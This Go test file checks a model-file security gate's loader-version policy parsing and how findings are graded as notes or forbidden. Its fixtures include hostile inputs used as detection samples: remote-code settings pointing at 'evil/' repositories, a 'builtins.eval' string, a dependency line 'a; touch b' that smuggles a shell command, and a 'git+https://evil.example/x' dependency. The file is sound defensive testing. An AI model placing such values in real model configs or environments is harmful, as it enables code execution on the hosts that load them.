package gate_test

import (
	"bytes"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/anamnesis-go/anamnesis/gate"
	"github.com/anamnesis-go/anamnesis/internal/wire"
	"github.com/anamnesis-go/anamnesis/parser/tensor"
)

// Each line of the table names a rule of findings, versions that can be read, and advisories by their
// identifiers. What is * has no other.
func TestTheTableOfLoadersIsWhole(t *testing.T) {
	text, err := os.ReadFile("loaders.txt")
	if err != nil {
		t.Fatal(err)
	}
	lines := 0
	for line := range strings.Lines(string(text)) {
		if line[0] == '#' {
			continue
		}
		lines++
		part := strings.Split(strings.TrimSpace(line), "\t")
		if len(part) != 5 || part[1] == "" || part[2] == "" {
			t.Errorf("%q", line)
			continue
		}
		if r, ok := gate.RuleOf(part[0]); !ok || r.Kind != "finding" {
			t.Errorf("%s is no rule of findings", part[0])
		}
		if _, err := gate.ParsePolicy([]byte(`{"version": 3, "loaders": {"` + part[2] + `": "` + part[3] + `"}}`)); (err == nil) != (part[3] != "*") {
			t.Errorf("%s: versions %s: %v", part[0], part[3], err)
		}
		for id := range strings.FieldsSeq(part[4]) {
			if id != "-" && !strings.HasPrefix(id, "CVE-") && !strings.HasPrefix(id, "GHSA-") {
				t.Errorf("%s: %s is no advisory", part[0], id)
			}
		}
		if f := (tensor.Finding{Code: part[0], Case: strings.TrimPrefix(part[1], "-")}); len(gate.LoadersOf(f)) == 0 {
			t.Errorf("%s: nothing obeys it", line)
		}
	}
	if lines < 10 || len(gate.Libraries()) < 6 {
		t.Errorf("%d lines, %v", lines, gate.Libraries())
	}
}

// A policy says what its host runs in versions that can be read, of libraries that findings are
// about. Anything else is an error.
func TestWhatAHostRunsIsReadStrictly(t *testing.T) {
	for _, good := range []string{`{}`, `{"transformers": ">=5.3"}`, `{"transformers": ">4.0,<=4.55.9", "vLLM": "none"}`, `{"vLLM": "==0.18.0"}`, `{"BentoML": "<2"}`} {
		p, err := gate.ParsePolicy([]byte(`{"version": 3, "loaders": ` + good + `}`))
		if err != nil {
			t.Errorf("%s: %v", good, err)
			continue
		}
		text, err := p.MarshalJSON()
		if err != nil {
			t.Fatal(err)
		}
		again, err := gate.ParsePolicy(text)
		if err != nil || (good != `{}`) != bytes.Contains(text, []byte(`"loaders"`)) || len(again.Loaders) != len(p.Loaders) {
			t.Errorf("%s: %s (%v)", good, text, err)
		}
	}
	for _, bad := range []string{
		`[]`, `"transformers"`, `null`, `{"transformer": ">=5.3"}`, `{"Transformers": ">=5.3"}`, `{"transformers": 5}`, `{"transformers": null}`, `{"transformers": ""}`, `{"transformers": "5.3"}`,
		`{"transformers": ">=5.3.0rc1"}`, `{"transformers": ">= 5.3"}`, `{"transformers": "=>5.3"}`, `{"transformers": "~=5.3"}`, `{"transformers": "!=5.3"}`, `{"transformers": ">=5.3,"}`, `{"transformers": ">=5,<4"}`,
		`{"transformers": ">5,<=5.0"}`, `{"transformers": "*"}`, `{"transformers": ">=05"}`, `{"transformers": ">=5..1"}`, `{"transformers": ">=1.2.3.4.5.6"}`, `{"transformers": ">=999999999"}`, `{"transformers": "None"}`,
		`{"transformers": ">=5.3", "transformers": ">=5.4"}`, `{"transformers": ">=5.3"} {}`, `{"transformers": "\u003e=-5"}`,
	} {
		if _, err := gate.ParsePolicy([]byte(`{"version": 3, "loaders": ` + bad + `}`)); err == nil {
			t.Errorf("%s is accepted", bad)
		}
	}
	if _, err := gate.ParsePolicy([]byte(`{"version": 3, "paths": [{"path": "a/*", "loaders": {"transformers": "none"}}]}`)); err != nil {
		t.Error(err)
	}
}

// A finding about a library that a host does not run is a note that says so. It keeps its severity
// if the policy does not mention the library, or does not state its versions.
func TestFindingsThatNoLoaderObeysAreNotes(t *testing.T) {
	const internal, trust, mapped, both = `{"_attn_implementation_internal": "evil/kernels"}`, `{"trust_remote_code": true}`, `{"auto_map": {"AutoModel": "evil/x--m.M"}}`,
		`{"_attn_implementation_internal": "evil/kernels", "trust_remote_code": true}`
	const environment = "dependencies:\n- a; touch b\n"
	for _, c := range []struct {
		name, text, loaders string
		accepted            bool
		says                string
	}{
		{"config.json", internal, ``, false, "transformers >=4.56.0,<5.3.0 (CVE-2026-4372)"},
		{"config.json", internal, `"transformers": ">=5.3"`, true, "the policy says that the host runs transformers >=5.3"},
		{"config.json", internal, `"transformers": "<4.56"`, true, "transformers <4.56"},
		{"config.json", internal, `"transformers": "none"`, true, "the policy says that the host runs no transformers"},
		{"config.json", internal, `"transformers": ">=5.2"`, false, ""},
		{"config.json", internal, `"transformers": "<=4.56"`, false, ""},
		{"config.json", internal, `"transformers": ">5.2,<5.4"`, false, ""},
		{"config.json", internal, `"vLLM": "none"`, false, ""},
		{"config.json", trust, `"transformers": ">=5.5"`, false, "open_clip, FunASR"},
		{"config.json", trust, `"transformers": ">=5.5", "open_clip": "none"`, false, ""},
		{"config.json", trust, `"transformers": ">=5.5", "open_clip": ">=99", "FunASR": "none"`, false, ""},
		{"config.json", trust, `"transformers": ">=5.4", "open_clip": "none", "FunASR": "none"`, false, ""},
		{"config.json", trust, `"transformers": ">=5.5", "open_clip": "none", "FunASR": "none"`, true, ""},
		{"config.json", both, `"transformers": ">=5.5"`, false, ""},
		{"config.json", mapped, `"transformers": ">=5.5", "vLLM": ">=0.18"`, false, ""},
		{"config.json", `{"x": "builtins.eval"}`, `"transformers": "none", "vLLM": "none", "MLflow": "none"`, false, ""},
		{"python_env.yaml", environment, `"MLflow": ">=3.9"`, true, "no MLflow"[3:]},
		{"python_env.yaml", environment, `"MLflow": ">=3.8"`, false, "CVE-2025-15379"},
		{"python_env.yaml", "dependencies:\n- git+https://evil.example/x\n", `"MLflow": ">=3.9"`, false, ""},
	} {
		policy, err := gate.ParsePolicy([]byte(`{"version": 3, "loaders": {` + c.loaders + `}}`))
		if err != nil {
			t.Fatal(err)
		}
		v := inFolder(t, policy, fstest.MapFS{c.name: {Data: []byte(c.text)}, "model.safetensors": {Data: tiny()}})
		if v.Accepted() != c.accepted || !c.accepted && v.Class() != wire.Forbidden {
			t.Errorf("%s with %s: %v (%v)", c.text, c.loaders, v.Class(), v.Err)
		}
		if c.says != "" && !slices.ContainsFunc(v.Findings, func(f tensor.Finding) bool { return strings.Contains(f.Text, c.says) }) {
			t.Errorf("%s with %s: no finding says %q: %v", c.text, c.loaders, c.says, v.Findings)
		}
		v.Close()
	}
}

// The verdict's JSON has the loaders of a finding; the digest of a policy, by which receipts and
// evidence are bound, is another one for another host.
func TestLoadersAreInTheVerdict(t *testing.T) {
	policy, err := gate.ParsePolicy([]byte(`{"version": 3, "loaders": {"transformers": ">=5.3"}}`))
	if err != nil {
		t.Fatal(err)
	}
	digest, err := policy.Digest()
	if err != nil {
		t.Fatal(err)
	}
	if other, err := (gate.Policy{}).Digest(); err != nil || other == digest {
		t.Errorf("%s for a policy without loaders (%v)", other, err)
	}
	v, _ := check(t, gate.Gate{Policy: policy}, `{"_attn_implementation_internal": "evil/kernels"}`, gate.Hint{Name: "config.json", Beside: true})
	defer v.Close()
	text, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	var out struct {
		Policy   string
		Findings []struct {
			Severity string
			Loaders  []gate.Loader
		}
	}
	if err := json.Unmarshal(text, &out); err != nil {
		t.Fatal(err)
	}
	if len(out.Findings) != 1 || out.Findings[0].Severity != "note" || len(out.Findings[0].Loaders) != 1 || out.Findings[0].Loaders[0].Advisories[0] != "CVE-2026-4372" || out.Policy != digest {
		t.Errorf("%+v, policy %s", out, digest)
	}
}
